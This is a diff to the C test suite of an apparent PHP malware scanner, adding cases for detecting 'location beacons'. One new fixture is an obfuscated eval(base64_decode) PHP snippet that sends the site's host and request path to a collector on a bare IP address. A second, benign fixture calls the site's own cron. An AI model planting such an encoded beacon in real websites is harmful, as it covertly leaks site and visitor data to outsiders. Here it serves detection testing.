@@ -84,6 +84,13 @@ static void test_location_beacons(void **state)
 	       "UoJGggLiAkX1NFUlZFUlsnUEhQX1NFTEYnXSkpOyB9'));",
 	       "php.location_beacon", HS_SEV_MEDIUM);
 	assert_true(find("php.location_beacon")->sev < HS_SEV_HIGH);
+	/* to a collector on a bare IP address: high */
+	expect("<?php "
+	       "eval(base64_decode('"
+	       "JHcgPSAkX1NFUlZFUlsiSFRUUF9IT1NUIl07ICR0ID0gJHcgLiAkX1NFUlZFUlsiUkVRVUVTVF9VUkkiXTs"
+	       "gQGZpbGVfZ2V0X2NvbnRlbnRzKCJodHRwOi8vMTk4LjUxLjEwMC4yMy9pbi5waHA/"
+	       "dT17JHR9Jms9MSIpOw=='));",
+	       "php.location_beacon", HS_SEV_HIGH);
 }
 
 static void test_location_look_alikes(void **state)
@@ -96,6 +103,12 @@ static void test_location_look_alikes(void **state)
 	      "'See the log');");
 	quiet("<?php $r = wp_remote_post('https://license.example.com/check', array('body' => "
 	      "array('domain' => $_SERVER['HTTP_HOST'], 'key' => get_option('lk'))));");
+	/* the site calling its own cron from encoded code: its own host */
+	run("<?php "
+	    "eval(base64_decode('"
+	    "JHcgPSAkX1NFUlZFUlsiSFRUUF9IT1NUIl07IEBmaWxlX2dldF9jb250ZW50cygiaHR0cDovLyIgLiAkdyAuIC"
+	    "Ivd3AtY3Jvbi5waHA/ZG9pbmdfd3BfY3JvbiIpOw=='));");
+	assert_null(find("php.location_beacon"));
 }
 
 int main(void)
